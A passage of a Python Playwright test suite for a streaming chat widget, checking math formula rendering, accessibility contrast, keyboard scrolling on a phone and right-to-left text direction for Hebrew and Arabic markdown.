    expect(block.locator("munderover")).to_be_visible()
    # What is not understood stays as it is written.
    expect(page.locator(".prose code", has_text="foo")).to_have_text(r"\foo{y}")
    # A sum in a block has its limits above and below, and a formula in a line stands on the line of its words.
    sign, over = (block.locator(f"munderover > :nth-child({child})").bounding_box() for child in (1, 3))
    assert over["y"] < sign["y"]
    line = inline.evaluate("""math => {
        const [mi, text] = [math.querySelector("mi"), document.createElement("span")];
        text.textContent = "x";
        text.style.verticalAlign = "baseline";
        math.closest("code").before(text);
        const bottoms = [mi, text].map((one) => one.getBoundingClientRect().bottom);
        text.remove();
        return Math.abs(bottoms[0] - bottoms[1]);
    }""")
    assert line < 8
    colours = inline.evaluate("""math => {
        const number = (colour) => colour.match(/[\\d.]+/g).slice(0, 3).map(Number);
        const background = getComputedStyle(math.closest(".panel")).backgroundColor;
        return [background, getComputedStyle(math).color].map(number);
    }""")
    assert contrast(*colours) >= 4.5


@pytest.mark.nightly
def test_a_formula_stays_while_the_answer_grows(chat):
    push = open_stream(chat)
    content = {"type": "TEXT_MESSAGE_CONTENT", "messageId": "m"}
    push({"type": "TEXT_MESSAGE_START", "messageId": "m", "role": "assistant"}, content | {"delta": "So $x_1$ and"})
    formula = chat.locator(".prose math")
    expect(formula).to_have_count(1)
    formula.evaluate("math => void (window.drawn = math)")
    push(content | {"delta": " then $\\frac{a"})
    expect(chat.locator(".prose p")).to_contain_text("then")
    expect(chat.locator(".prose code")).to_have_count(1)
    assert "$" not in chat.locator(".prose").inner_text()
    push(content | {"delta": "}{b}$ too."})
    expect(formula).to_have_count(2)
    push({"type": "TEXT_MESSAGE_END", "messageId": "m"}, {"type": "RUN_FINISHED", "threadId": "t", "runId": "r"})
    finished(chat)
    assert formula.first.evaluate("math => math === window.drawn")


@pytest.mark.nightly
def test_a_wide_formula_scrolls_by_keyboard_on_a_phone(new_page, site, signed_in):
    page = new_page(site.url, storage_state=signed_in, viewport={"width": 380, "height": 700})
    show_answer(page, f"{WIDE}\n\nAnd ${WIDE[3:-3]}$, but $y$.")
    boxes = page.locator(".formula")
    expect(boxes).to_have_count(3)
    for box in boxes.all()[:2]:
        expect(box).to_have_attribute("tabindex", "0")
        assert box.evaluate("box => box.getBoundingClientRect().right <= innerWidth")
        box.focus()
        page.keyboard.press("ArrowRight")
        page.wait_for_function("box => box.scrollLeft > 0", arg=box.element_handle())
    assert boxes.last.get_attribute("tabindex") is None
    assert page.locator(".log").evaluate("log => log.scrollWidth <= log.clientWidth")


# --- Directions


MIXED = """\
The quote says:

> שלום עולם.
>
> - פריט ראשון

- أول عنصر مع `code`
- An English item

```js
// שלום
```

| الاسم | Note |
|---|---|
| سعر | good |

In the end, English again.
"""
SIDES = """() => [...document.querySelector("agui-chat").shadowRoot.querySelectorAll(
    ".prose p, .prose blockquote, .prose ul, .prose .code, .prose pre, .prose table"
)].map((element) => `${element.localName} ${getComputedStyle(element).direction}`)"""


@pytest.mark.parametrize("direction", ["ltr", "rtl"])
def test_each_block_runs_in_its_own_direction_whatever_the_page_does(chat, direction):
    chat.evaluate("direction => (document.documentElement.dir = direction)", direction)
    push = open_stream(chat)
    push({"type": "TEXT_MESSAGE_CHUNK", "messageId": "m", "delta": MIXED})
    push({"type": "RUN_FINISHED", "threadId": "t", "runId": "r"})
    expect(chat.locator(".prose table")).to_be_visible()
    finished(chat)
    assert chat.evaluate(SIDES) == [
        "p ltr", "blockquote rtl", "p rtl", "ul rtl", "ul rtl", "div ltr", "pre ltr", "table rtl", "p ltr"
    ]  # fmt: skip
    quote, items = chat.locator(".prose blockquote"), chat.locator(".prose ul").last.locator("li")
    assert quote.evaluate("e => getComputedStyle(e).borderRightWidth") == "3px"
    # An item stands beside its bullet, and its words run as they are.
    assert items.evaluate_all("all => all.map((e) => getComputedStyle(e).textAlign)") == ["right", "right"]
    chat.locator("agui-chat .input").fill("مرحبا")
    assert chat.locator("agui-chat .input").evaluate("e => getComputedStyle(e).direction") == "rtl"
